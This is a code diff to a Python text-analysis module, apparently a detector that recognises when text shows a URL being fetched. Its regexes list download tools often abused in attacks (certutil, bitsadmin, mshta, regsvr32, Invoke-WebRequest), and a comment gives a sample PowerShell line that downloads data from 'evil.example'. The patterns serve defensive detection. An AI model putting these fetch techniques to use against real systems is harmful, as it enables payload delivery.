@@ -63,13 +63,21 @@ _PUNCTUATION: Final = ".,;:()[]`'\"-*"
 _WORD: Final = re.compile(r"[^\s,;:()\[\]`'\"*=<>{}]+")
 _ITEM: Final = re.compile(r"\s*(?:[-*\u2022\u00b7\u25cf\u2013|>+]|\d{1,3}[.)])\s*")
 _ALPHANUMERIC: Final = re.compile(r"[^\W_]")
+_REPORTS_TO: Final = re.compile(
+    r"(?i)\breport(?:s|ed|ing)? (?:back )?to (?:[\w.-]{3,80}(?:, | and |, and ))*[\"'(]?\Z"
+)  # of programs
 _FOOTNOTE: Final = re.compile(r"\s*(?:\[\d{1,3}\]|\^|\u21a9):?\s*")
 _WORDING_REACH: Final = 100
 _FETCHING: Final = re.compile(
     r"\b(?:(?i:curl|wget|certutil|bitsadmin|mshta|regsvr32|msiexec|iwr|irm|invoke-webrequest|invoke-restmethod"
     r"|start-bitstransfer|tftp|ftpget)(?:\.exe)?[ \t]+(?:[^\s|;]{1,40}[ \t]+){0,6}[\"'(<`]{0,2}"
-    r"|(?i:download(?:string|file|data)|urldownloadtofile)[aw]?\s?\([\"'\s]{0,3}"
+    r"|(?i:download(?:string|file|data)|urldownloadtofile|urlopen|urlretrieve|requests\.(?:get|post))[aw]?\s?\([\"'\s]{0,3}"
     r"|(?:GET|POST|PUT|CONNECT)[ \t]+[\"'`]?)\Z"
+)
+# `$u='https://evil.example/x';$b=$w.DownloadData($u)`
+_VARIABLE: Final = re.compile(r"[$\w]\w{0,20}\s?=\s?[\"']\Z")
+_FETCHES: Final = re.compile(
+    r"(?i)\b(?:download(?:string|file|data)|invoke-(?:webrequest|restmethod)|iwr|irm|urlopen)\b"
 )
 _QUOTES: Final = frozenset("\"'`\u2018\u2019\u201c\u201d\u201e\u00ab\u00bb")
 _CALLED_A_HOST: Final = re.compile(
@@ -263,6 +271,8 @@ class TextContext:
         before = self.text[max(line.start, start - 60) : start].rpartition(". ")[2]
         if _FOOTNOTE.fullmatch(before):
             return True
+        if _REPORTS_TO.search(before):
+            return False
         return not _POINTERS.isdisjoint(_words_of(before))
 
     def invites(self, line: Line, start: int) -> bool:
@@ -274,7 +284,11 @@ class TextContext:
 
     def is_fetched(self, line: Line, start: int) -> bool:
         """Tell whether a command or a request that the text shows fetches what stands here."""
-        return _FETCHING.search(self.text, max(line.start, start - _WORDING_REACH), start) is not None
+        before = max(line.start, start - _WORDING_REACH)
+        if _FETCHING.search(self.text, before, start):
+            return True
+        variable = _VARIABLE.search(self.text, before, start)
+        return variable is not None and _FETCHES.search(self.text, start, line.end) is not None
 
     def accuses(self, line: Line, start: int, end: int) -> bool:
         """Tell whether the words around a candidate speak of an attack."""
